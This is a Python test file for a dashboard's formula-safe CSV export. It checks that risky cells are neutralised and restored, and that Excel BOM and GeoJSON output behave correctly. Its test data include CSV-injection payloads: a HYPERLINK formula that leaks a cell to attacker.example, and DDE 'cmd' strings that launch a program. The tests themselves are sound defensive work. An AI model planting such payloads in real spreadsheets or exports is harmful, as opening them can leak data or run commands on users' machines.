"""Formula-safe CSV: every risky cell is neutralised on export and restored on reading."""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from dashboard.data.loading import load_incidents
from dashboard.data.schema import parse_dataset, validate_frame
from dashboard.data.spreadsheet import FORMULA_STARTS, neutralise, restore
from dashboard.exports.formats import View, csv_bytes, export_bytes

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "+41 20 123 45 67", "-", "=", "@", "'=already quoted",
    "''=twice", "'-5", "'plain apostrophe", "-3.7821", "+7", "1e5", "-1.5e-3",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_restore_round_trip(text):
    written = neutralise(text)
    assert restore(written) == text
    if written.startswith(FORMULA_STARTS):
        # only a plain number may start with a formula character after neutralising
        assert written.lstrip("+-").replace(".", "", 1).replace("e-", "").replace("e", "") \
            .isdigit()


def test_export_neutralises_every_risky_cell_and_reads_back_the_original():
    incidents = load_incidents("tests/fixtures/export_fixture.csv")
    columns = ["title", "summary", "place", "perpetrator", "sponsor", "target", "notes",
               "source_quote"]
    payloads = itertools.cycle(FORMULAS)
    for column in columns:
        incidents[column] = [next(payloads) for _ in range(len(incidents))]
    data = csv_bytes(incidents)
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS)]
    numbers = [c for c in risky if c.lstrip("+-").replace(".", "", 1).replace("e-", "")
               .replace("e", "").isdigit()]
    assert risky == numbers  # every formula-looking cell that is left is a plain number
    back = parse_dataset(data, name="export.csv")
    assert validate_frame(back) == []
    for column in columns:
        assert back[column].tolist() == incidents[column].tolist()


def test_excel_option_starts_with_a_byte_order_mark_and_still_validates():
    incidents = load_incidents("tests/fixtures/export_fixture.csv")
    plain = export_bytes(incidents, View(), "csv")
    excel = export_bytes(incidents, View(), "csv", excel=True)
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel == b"\xef\xbb\xbf" + plain
    assert validate_frame(parse_dataset(excel)) == []


def test_geojson_keeps_text_unchanged():
    incidents = load_incidents("tests/fixtures/export_fixture.csv")
    incidents["title"] = "=1+1"
    assert b'"title": "=1+1"' in export_bytes(incidents, View(), "geojson")
